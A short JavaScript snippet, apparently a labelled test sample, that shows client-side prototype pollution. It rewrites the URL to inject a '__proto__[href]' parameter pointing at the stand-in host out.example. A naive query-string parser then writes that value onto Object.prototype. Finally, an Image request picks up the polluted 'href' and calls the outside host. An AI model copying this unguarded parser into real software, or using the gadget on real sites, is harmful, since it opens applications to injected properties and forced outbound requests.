/* {"family": "runtime"} */
history.replaceState(null, '', '?__proto__[href]=https://out.example/query'); const state = {}; for (const [name, value] of new URLSearchParams(location.search)) { const [, table, column] = /^(\w+)\[(\w+)\]$/.exec(name); (state[table] ??= {})[column] = value; } new Image().src = {}.href;
